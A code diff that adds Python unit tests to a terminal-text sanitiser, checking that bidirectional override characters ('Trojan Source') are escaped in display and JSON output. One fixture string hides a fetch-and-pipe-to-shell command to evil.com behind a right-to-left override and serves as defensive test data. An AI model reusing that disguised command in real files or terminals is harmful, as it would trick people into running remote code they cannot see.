@@ -48,3 +48,31 @@ def test_strip_ansi_then_visible():
     assert strip_ansi("\x1b[32mok\x1b[0m") == "ok"
     assert clean("\x1b[32mok\x1b[0m \x1b]0;title\x07 \x9b2J\x07") == "ok  \\x9b2J^G"
     assert not has_controls(clean("\x1b[1m\x1b", block=True))
+
+
+TROJAN = "cat notes.md \u202ehs.hsab|moc.live//:sptth lruc #\u202c"  # shown as: cat notes.md # curl https://evil.com|bash.sh
+
+
+def test_bidi_controls_are_stand_ins_in_rows_and_blocks():
+    """Issue 33, hole 7: an override shown raw makes a terminal draw text in another order
+    than it is stored ("Trojan Source"); every embedding, override and isolate is a stand-in."""
+    want = "cat notes.md \\u202ehs.hsab|moc.live//:sptth lruc #\\u202c"
+    assert visible(TROJAN) == want
+    assert visible(TROJAN + "\nnext", block=True) == want + "\nnext"
+    bidi = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
+    assert visible(bidi) == "\\u202a\\u202b\\u202c\\u202d\\u202e\\u2066\\u2067\\u2068\\u2069"
+    assert has_controls(TROJAN)
+    # right-to-left letters and the marks they need are text, not controls
+    assert visible("שלום مرحبا \u200f") == "שלום مرحبا \u200f"
+
+
+def test_json_output_escapes_bidi_controls_and_stays_the_same_value():
+    import orjson
+
+    from pitui.core.text import json_safe
+
+    data = orjson.dumps({"command": TROJAN, "dash": "a — b “c”"})
+    safe = json_safe(data)
+    assert "\u202e".encode() not in safe and b"\\u202e" in safe and b"\\u202c" in safe
+    assert orjson.loads(safe) == orjson.loads(data)
+    assert "—".encode() in safe  # (other characters that start with the same byte stay raw)
